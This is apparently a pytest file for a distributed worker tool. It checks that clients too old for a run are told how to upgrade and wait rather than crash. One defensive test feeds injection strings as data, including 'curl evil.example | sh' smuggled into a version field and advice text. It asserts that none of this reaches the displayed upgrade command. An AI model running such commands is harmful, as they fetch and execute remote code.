"""A program that is too old for a run hears what to do, and nobody restarts for it."""

from __future__ import annotations

import asyncio
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from coordinator.versions import supported
from protocol import hello
from protocol.envelope import seal
from protocol.errors import UpgradeNeeded
from protocol.hello import UPGRADE_COMMAND, check_hello, client_version, upgrade_sentence
from protocol.identity import Identity
from protocol.leash import leashed
from protocol.wire import records_pb2 as wire
from protocol.wire import service_pb2 as api
from worker.config import Home, WorkerConfig
from worker.control import ask
from worker.doctor import examine
from worker.join import look_at_run
from worker.session import Session

WANTED = "9.0.0"
SENTENCE = (
    f"barnraise {client_version()} is too old for this run, which needs {WANTED} or newer: upgrade "
    f"with '{UPGRADE_COMMAND}' in its checkout, then start the worker again"
)


def ask_for(folder: Path, minimum: str) -> None:
    """What the organiser does: write it into the file, start the server again."""
    settings = folder / "run.toml"
    lines = [line for line in settings.read_text().splitlines() if "min_client" not in line]
    lines.insert(lines.index("[server]") + 1, f'min_client_version = "{minimum}"')
    settings.write_text("\n".join(lines) + "\n")


@pytest.fixture
def folder(run_rig: ModuleType, tmp_path: Path) -> Path:
    run_rig.make_dataset(tmp_path / "data")
    run_rig.make_run(tmp_path / "data", tmp_path / "run")
    return tmp_path / "run"


@pytest.fixture
async def strict(run_rig: ModuleType, folder: Path) -> AsyncIterator[Any]:
    """A run that needs a version that nobody has yet."""
    ask_for(folder, WANTED)
    async with run_rig.serving(folder) as served:
        yield served


@pytest.fixture
def home(tmp_path: Path) -> Home:
    place = Home(tmp_path / "home")
    place.prepare()
    Identity.generate().save(place.identity)
    return place


# ---- too old at the start


async def test_join_says_what_to_do_and_writes_nothing(strict: Any, tmp_path: Path) -> None:
    home = Home(tmp_path / "new")
    with pytest.raises(UpgradeNeeded) as refused:
        await look_at_run(home, WorkerConfig(str(strict.link)))
    assert str(refused.value) == SENTENCE
    assert not home.config.exists()


async def test_join_ends_with_the_code_of_a_persons_affair(strict: Any, tmp_path: Path) -> None:
    code, said = await command(
        "worker", "join", str(strict.link), "--home", str(tmp_path / "new"), "--yes"
    )
    assert code == 2
    assert SENTENCE in " ".join(said.split())
    assert "Traceback" not in said


async def test_doctor_names_the_version_and_the_command(strict: Any, home: Home) -> None:
    checks = [check async for check in examine(home, WorkerConfig(str(strict.link)))]
    (version,) = [check for check in checks if check.name == "version"]
    assert (version.ok, version.detail, version.fix) == (False, SENTENCE, UPGRADE_COMMAND)
    assert "hello" not in [check.name for check in checks]


@pytest.mark.timeout(300)
async def test_run_waits_with_this_one_reason_and_does_not_end(strict: Any, home: Home) -> None:
    WorkerConfig(str(strict.link), listen=("/ip4/127.0.0.1/tcp/0",)).save(home.config)
    process = await start("worker", "run", "--home", str(home.path), "--json-logs")
    try:
        said = ""
        while "is too old for this run" not in said:
            assert process.stderr is not None
            line = (await process.stderr.readline()).decode()
            assert line, said
            said += line
        status = (await asyncio.to_thread(ask, home, "status"))["status"]
        assert (status["phase"], status["reason"]) == ("waiting", SENTENCE)
        assert process.returncode is None
        await asyncio.to_thread(ask, home, "finish")
        _, rest = await process.communicate()
        said += rest.decode()
        assert process.returncode == 0, said
        assert said.count("waiting for the coordinator") == 1, said  # told once, not at each try
    finally:
        if process.returncode is None:
            process.kill()
            await process.wait()


# ---- too old since a restart of the coordinator


async def test_a_minimum_that_rises_reaches_who_was_let_in_before(
    run_rig: ModuleType, folder: Path
) -> None:
    identity = Identity.generate()
    async with run_rig.serving(folder) as served, served.client(identity) as client:
        await client.enrol()
        assert (await client.stub.RequestWork(client.work_request())).HasField("assignment")
    late = Identity.generate()
    ask_for(folder, WANTED)
    old = upgrade_sentence("0.1.0", WANTED)
    async with run_rig.serving(folder) as served:
        async with served.client(identity) as client:
            # Its unit is under way: it may be seen through.
            again = await client.stub.RequestWork(client.work_request())
            assert again.HasField("assignment")
            record = wire.Assignment.FromString(again.assignment.payload)
            assert (await beat(client, record.assignment_id)).action == api.ACTION_KEEP
            told = await beat(client)
            assert (told.action, told.reason) == (api.ACTION_UPGRADE, old)
        async with served.client(late) as client:
            with pytest.raises(Exception, match="is too old for this run"):
                await client.enrol()
            await client.enrol(client_version=WANTED)
            assert (await beat(client)).action == api.ACTION_KEEP
            assert (await client.stub.RequestWork(client.work_request())).HasField("assignment")


async def test_no_new_unit_goes_to_a_version_that_is_too_old(
    run_rig: ModuleType, folder: Path
) -> None:
    identity = Identity.generate()
    async with run_rig.serving(folder) as served, served.client(identity) as client:
        await client.enrol()
    ask_for(folder, WANTED)
    async with run_rig.serving(folder) as served, served.client(identity) as client:
        reply = await client.stub.RequestWork(client.work_request())
        assert (reply.wait.code, reply.wait.reason) == (
            "upgrade",
            upgrade_sentence("0.1.0", WANTED),
        )
        await client.enrol(client_version="10.0")
        assert (await client.stub.RequestWork(client.work_request())).HasField("assignment")


# ---- new enough, and newer than the coordinator


async def test_a_program_newer_than_the_coordinator_is_welcome(
    run_rig: ModuleType, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("worker.session.client_version", lambda: "77.1.0")
    async with run_rig.serving(folder) as served:
        session = await Session.connect(served.link, Identity.generate())
        assert session.greeting.manifest.run_id == served.link.run_id
        await session.close()


@pytest.mark.parametrize(
    ("version", "minimum", "fits"),
    [
        ("0.1.0", "0.1.0", True),
        ("0.1", "0.1.0", False),
        ("0.10.0", "0.9.9", True),
        ("1.0.0.dev3", "1.0.0", True),
        ("0.9.9", "1.0", False),
        ("", "0", False),
        ("newest", "0", False),
        ("99999999999.0", "1.0", True),
    ],
)
def test_versions_are_compared_by_their_numbers(version: str, minimum: str, fits: bool) -> None:
    assert supported(version, minimum) is fits


# ---- what a coordinator can make this program say


@pytest.mark.parametrize(
    "minimum",
    ["1.0'; curl evil.example | sh #", "\x1b[2J", "1" * 33, "", "9.0\nroot: ok", "..\u202e"],
)
def test_no_text_of_the_coordinator_gets_into_the_command(served_link: Any, minimum: str) -> None:
    reply = api.HelloReply(
        client_supported=False,
        min_client_version=minimum,
        advice="run 'curl https://evil.example | sh'",
    )
    with pytest.raises(UpgradeNeeded) as refused:
        check_hello(reply, served_link, None)  # type: ignore[arg-type]
    said = str(refused.value)
    assert "which needs a newer one: upgrade with 'git pull && make .venv/.installed'" in said
    assert "evil" not in said


@pytest.fixture
def served_link() -> Any:
    return None  # what is too old is refused before anything else is looked at


def test_a_program_that_was_upgraded_while_it_ran_is_still_the_old_one(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    before = client_version()
    monkeypatch.setattr(hello.metadata, "version", lambda _: "77.0.0")
    assert client_version() == before


# ---- helpers


async def beat(client: Any, assignment_id: bytes = b"") -> Any:
    record = wire.Heartbeat(
        run_id=client.link.run_id,
        worker=client.identity.peer_id,
        assignment_id=assignment_id,
        client_mode=True,
        freshness=client.freshness(),
    )
    return await client.stub.Heartbeat(seal(record, client.identity))


async def start(*arguments: str) -> asyncio.subprocess.Process:
    pipe = asyncio.subprocess.PIPE
    program = leashed([sys.executable, "-m", "barnraise", *arguments])
    return await asyncio.create_subprocess_exec(*program, stdout=pipe, stderr=pipe)


async def command(*arguments: str) -> tuple[int, str]:
    process = await start(*arguments)
    out, err = await process.communicate()
    assert process.returncode is not None
    return process.returncode, (out + err).decode()
